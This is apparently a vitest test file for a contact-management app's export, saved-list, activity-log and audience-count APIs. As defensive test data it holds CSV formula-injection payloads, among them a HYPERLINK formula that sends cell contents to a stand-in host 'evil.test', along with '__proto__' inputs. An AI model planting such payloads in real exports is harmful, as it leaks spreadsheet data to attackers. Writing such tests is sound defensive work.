import { EXPORT_COLUMNS } from '@crewline/contract/contact-columns'
import { contactViews, deleteContactView, exportContacts, saveContactView } from '@crewline/contract/contact-lists'
import { countContacts } from '@crewline/contract/audience'
import { contactActivity } from '@crewline/contract/privacy'
import { archiveContact, createContact, editContact, readContact } from '@crewline/contract/contacts'
import { createCustomField, customFieldRemovable } from '@crewline/contract/fields'
import { groupUses, moveContacts } from '@crewline/contract/groups'
import { sql } from 'kysely'
import papaparse from 'papaparse'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { limitTo, makeGroup, makeOrg, makeUser, type Org, type TestUser } from '../../../test/kit/cast.ts'
import { testApp, type TestApp } from '../../../test/kit/test-app.ts'
import { unharmed } from '../../kernel/spreadsheet/harmless.ts'

let t: TestApp
/** A manager who sees only the crew of Bob. */
let sam: TestUser
let crew: string
let others: string
beforeAll(async () => {
  t = await testApp()
  const { kernel } = t.process
  crew = await makeGroup(kernel, t.acme.id, 'Crew', [t.acme.bob.id])
  others = await makeGroup(kernel, t.acme.id, 'Others', [t.acme.bob.id, t.acme.cat.id])
  sam = await makeUser(kernel, t.acme.id, { firstname: 'Sam', lastname: 'Acme', role: 'manager' })
  await limitTo(kernel, sam, [crew])
  for (const [name, type, sensitive] of [
    ['Shoe', 'select', false],
    ['Diet', 'text', true],
    ['Forklift', 'boolean', false],
  ] as const)
    await t.as(t.acme.ann).call(createCustomField, {
      body: {
        ...{ name, type, sensitive },
        ...(type === 'select' ? { options: [{ id: 'a', label: '=SUM(1)' }] } : {}),
      },
    })
})
afterAll(() => t.close())

const edit = (id: string, body: Record<string, unknown>, user = t.acme.ann) =>
  t.as(user).call(editContact, { query: { id }, body })

async function exported(user: TestUser, body: object): Promise<string[][]> {
  const answer = await fetch(`${t.process.address}/api/contact/export`, {
    method: 'POST',
    headers: { authorization: `Bearer ${user.token}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
  expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="contacts-\d{4}-\d\d-\d\d\.csv"; /)
  const { data, errors } = papaparse.parse<string[]>((await answer.text()).replace(/^\ufeff/, ''), {
    skipEmptyLines: true,
    delimiter: ',',
  })
  expect(errors).toEqual([])
  return data
}

describe('an export', () => {
  test('contains every column of the selected contacts, with no cell starting a formula', async () => {
    const hostile = '=HYPERLINK("https://evil.test?"&A1,"Open")'
    await edit(t.acme.dan.id, {
      ...{ firstname: hostile, lastname: '+1', jobTitle: '@SUM(A1)', location: '-2', department: '\uff1d1' },
      customFields: { shoe: 'a', diet: '=cmd', forklift: true },
    })
    const columns = [...EXPORT_COLUMNS, 'custom.shoe', 'custom.diet', 'custom.forklift']
    const [header = [], ...rows] = await exported(t.acme.ann, { selectedAll: true, columns })
    expect(header.slice(0, 4)).toEqual(['First name', 'Last name', 'Preferred name', 'Mobile'])
    expect(header.slice(-3)).toEqual(['Shoe', 'Diet', 'Forklift'])
    expect(rows).toHaveLength(3)
    for (const cell of [header, ...rows].flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/)
    const dan = rows.find((row) => row[0]?.includes('HYPERLINK'))?.map(unharmed)
    expect(dan?.slice(0, 4)).toEqual([hostile, '+1', '', t.acme.dan.phone])
    expect(dan?.slice(-3)).toEqual(['=SUM(1)', '=cmd', 'Yes'])
    expect(rows.find((row) => row[0] === 'Bob')?.[header.indexOf('Groups')]).toBe('Crew; Others')
  })

  test('contains only visible contacts and no sensitive columns for a manager of some groups', async () => {
    const rows = await exported(sam, { selectedAll: true, columns: ['firstname', 'groups'] })
    expect(rows).toEqual([
      ['First name', 'Groups'],
      ['Bob', 'Crew'],
    ])
    expect(await exported(sam, { contacts: [t.acme.cat.id, t.beta.bob.id], columns: ['firstname'] })).toHaveLength(1)
    const response = await t.as(sam).call(exportContacts, { body: { selectedAll: true, columns: ['custom.diet'] } })
    expect(response.body).toMatchObject({ code: 'not_permitted' })
    expect((await t.as(t.acme.gus).call(exportContacts, { body: { selectedAll: true } })).body).toMatchObject({
      code: 'not_permitted',
    })
  })

  test('uses the requested order, also for contacts selected by hand', async () => {
    const attributes = { bob: 'Dock 10', cat: '', dan: 'Dock 9' }
    for (const [name, location] of Object.entries(attributes) as ['bob' | 'cat' | 'dan', string][])
      await edit(t.acme[name].id, { location })
    const request = { columns: ['location', 'groups'], sort: 'location' }
    const flat = async (more: object) =>
      (await exported(t.acme.ann, { ...request, ...more })).map((row) => row[0]).slice(1)
    expect(await flat({ selectedAll: true })).toEqual(['Dock 9', 'Dock 10', ''])
    expect(await flat({ selectedAll: true, order: 'desc' })).toEqual(['Dock 10', 'Dock 9', ''])
    expect(await flat({ contacts: [t.acme.bob.id, t.acme.dan.id] })).toEqual(['Dock 9', 'Dock 10'])
  })

  test('is rejected for unknown columns and audited', async () => {
    for (const columns of [[], ['nothing'], ['custom.nothing'], ['constructor'], ['__proto__']])
      expect((await t.as(t.acme.ann).call(exportContacts, { body: { selectedAll: true, columns } })).http).toBe(400)
    await exported(t.acme.ann, { selectedAll: true, columns: ['phone'] })
    const audited = await sql<{ detail: object }>`
      select detail from audit_entry where action = 'contacts.exported' and actor_id = ${t.acme.ann.id} order by id desc limit 1`.execute(
      t.process.kernel.database.ofOrg(t.acme.id),
    )
    expect(audited.rows[0]?.detail).toMatchObject({ format: 'csv', columns: ['phone'], contacts: 3 })
  })

  test('is a workbook on request', async () => {
    const answer = await fetch(`${t.process.address}/api/contact/export`, {
      method: 'POST',
      headers: { authorization: `Bearer ${t.acme.ann.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ selectedAll: true, format: 'xlsx' }),
    })
    expect(answer.headers.get('content-type')).toContain('spreadsheetml')
    expect(
      Buffer.from(await answer.arrayBuffer())
        .subarray(0, 2)
        .toString(),
    ).toBe('PK')
  })
})

describe('saved lists', () => {
  const list = (more: object = {}) => ({ name: 'Nights', audience: { groupId: others, search: 'bo' }, ...more })
  const namesFor = async (user: TestUser) =>
    (await t.as(user).call(contactViews, {})).body.views.map(({ name, mine }) => ({ name, mine }))

  test('are private until shared, then visible to members who see their groups', async () => {
    const { view } = (await t.as(t.acme.ann).call(saveContactView, { body: list() })).body
    expect(view).toMatchObject({ name: 'Nights', mine: true, shared: false, sort: 'name', order: 'asc', columns: [] })
    expect(await namesFor(t.acme.gus)).toEqual([])
    const late = { shared: true, name: 'Late', sort: 'hireDate' as const, order: 'desc' as const }
    const updated = await t.as(t.acme.ann).call(saveContactView, { query: { id: view.id }, body: list(late) })
    expect(updated.body.view).toMatchObject(late)
    expect(await namesFor(t.acme.gus)).toEqual([{ name: 'Late', mine: false }])
    expect(await namesFor(sam)).toEqual([])
    expect(await namesFor(t.beta.ann)).toEqual([])
    const ruled = { filter: { op: 'and', children: [{ field: 'group', cmp: 'member_of', value: [crew] }] } } as const
    await t
      .as(t.acme.ann)
      .call(saveContactView, { query: { id: view.id }, body: list({ shared: true, audience: ruled }) })
    expect(await namesFor(sam)).toEqual([{ name: 'Nights', mine: false }])
    expect((await t.as(t.acme.gus).call(deleteContactView, { query: { id: view.id } })).body).toMatchObject({
      code: 'not_permitted',
    })
    expect((await t.as(t.beta.ann).call(deleteContactView, { query: { id: view.id } })).http).toBe(404)
    expect((await t.as(sam).call(deleteContactView, { query: { id: view.id } })).http).toBe(200)
    expect(await namesFor(t.acme.ann)).toEqual([])
  })

  test('can be changed only by their owner while private, and are rejected with invalid rules', async () => {
    const { view } = (await t.as(t.acme.gus).call(saveContactView, { body: list() })).body
    expect((await t.as(t.acme.ann).call(saveContactView, { query: { id: view.id }, body: list() })).http).toBe(404)
    expect((await t.as(t.acme.ann).call(deleteContactView, { query: { id: view.id } })).http).toBe(404)
    const unknown = { filter: { op: 'and', children: [{ field: 'custom.gone', cmp: 'is', value: 'x' }] } } as const
    expect((await t.as(t.acme.gus).call(saveContactView, { body: list({ audience: unknown }) })).http).toBe(400)
    await t.as(t.acme.gus).call(deleteContactView, { query: { id: view.id } })
  })

  test('prevent deleting what they refer to, without revealing the name of a private list', async () => {
    const field = (await t.as(t.acme.ann).call(createCustomField, { body: { name: 'Badge', type: 'text' } })).body
      .customField
    const audience = {
      groupId: others,
      filter: { op: 'and', children: [{ field: 'custom.badge', cmp: 'not_empty' }] },
    } as const
    const shared = await t
      .as(t.acme.ann)
      .call(saveContactView, { body: list({ audience, shared: true, name: 'Badges' }) })
    await t.as(t.acme.gus).call(saveContactView, { body: list({ audience, name: 'Secret' }) })
    const response = await t.as(t.acme.ann).call(customFieldRemovable, { params: { id: field.id } })
    expect(response.body.removable).toBe(false)
    expect(response.body.usedBy.map((use) => use.name).toSorted()).toEqual(['A teammate’s own list', 'Badges'])
    const uses = await t.as(t.acme.ann).call(groupUses, { query: { id: others } })
    expect(uses.body.usedBy.map((use) => use.name).toSorted()).toEqual(['A teammate’s own list', 'Badges'])
    await t.as(t.acme.ann).call(deleteContactView, { query: { id: shared.body.view.id } })
  })
})

describe('contact activity', () => {
  const optedOut = async (id: string) =>
    (await t.as(t.acme.ann).call(readContact, { query: { id } })).body.contact.reach === 'opted_out'

  test('lists the changes to a contact, newest first, with labels', async () => {
    const { id } = (await t.as(t.acme.ann).call(createContact, { body: { firstname: 'Act', phone: '4155550133' } }))
      .body.contact
    await edit(id, { lastname: 'Ivity', work: 'on_leave', customFields: { forklift: true } })
    await t.as(t.acme.ann).call(moveContacts, { body: { contacts: [id], add: [crew], remove: [] } })
    await t.carrier.texts('+14155550133', 'STOP', t.acme.line.phone)
    await t.until(async () => (await optedOut(id)) || undefined)
    await t.as(t.acme.ann).call(archiveContact, { query: { id } })
    await edit(id, { archived: false })
    const read = async (user: TestUser) => (await t.as(user).call(contactActivity, { query: { id } })).body
    const { events, before } = await read(t.acme.ann)
    expect(before).toBeNull()
    expect(events.map(({ kind, detail, by }) => ({ kind, detail, by }))).toEqual([
      { kind: 'restored', detail: '', by: 'Ann Acme' },
      { kind: 'archived', detail: '', by: 'Ann Acme' },
      { kind: 'opt_out', detail: 'STOP', by: null },
      { kind: 'joined', detail: 'Crew', by: 'Ann Acme' },
      { kind: 'changed', detail: 'Last name, Status, Forklift', by: 'Ann Acme' },
      { kind: 'created', detail: 'Added manually', by: 'Ann Acme' },
    ])
    expect((await read(sam)).events.map((event) => event.kind)).toEqual(events.map((event) => event.kind))
    expect((await t.as(sam).call(contactActivity, { query: { id: t.acme.cat.id } })).http).toBe(404)
    expect((await t.as(t.beta.ann).call(contactActivity, { query: { id } })).http).toBe(404)
  })

  test('returns each event once across pages', async () => {
    const { id } = (await t.as(t.acme.ann).call(createContact, { body: { firstname: 'Long' } })).body.contact
    for (let n = 0; n < 60; n++) await edit(id, { jobTitle: `Job ${n}` })
    const seen: string[] = []
    let before: string | null | undefined
    do {
      const page = (await t.as(t.acme.ann).call(contactActivity, { query: { id, ...(before ? { before } : {}) } })).body
      seen.push(...page.events.map((event) => event.id))
      before = page.before
    } while (before)
    expect(seen).toHaveLength(61)
    expect(new Set(seen).size).toBe(61)
    const broken = await t.as(t.acme.ann).call(contactActivity, { query: { id, before: 'x' } })
    expect(broken.http).toBe(400)
  })
})

test('counts a selection and how many of its contacts can receive messages', async () => {
  const all = await t.as(t.acme.ann).call(countContacts, { body: { selectedAll: true, audience: { groupId: others } } })
  expect(all.body).toMatchObject({ count: 2, reachableCount: 2 })
  const org = await makeOrg(t.process.kernel, 'Crew 5', 5)
  const optOut = (on: Org) =>
    sql`
    insert into consent (org_id, phone, opted_out, changed_at) values (${on.id}, ${org.bob.phone}, true, now())
    on conflict (org_id, phone) do update set opted_out = true`.execute(t.process.kernel.database.ofOrg(on.id))
  const count = async (body: object) => {
    const { status: _, ...counts } = (await t.as(org.ann).call(countContacts, { body })).body
    return counts
  }
  // Another organization's opt-out of the same number has no effect here.
  await optOut(t.acme)
  expect(await count({ selectedAll: true })).toEqual({ count: 3, reachableCount: 3 })
  await optOut(org)
  const named = { contacts: [org.bob.id, org.cat.id] }
  expect(await count({ selectedAll: true })).toEqual({ count: 3, reachableCount: 2 })
  expect(await count({ selectedAll: true, audience: { reach: 'opted_out' } })).toEqual({ count: 1, reachableCount: 0 })
  expect(await count(named)).toEqual({ count: 2, reachableCount: 1 })
})
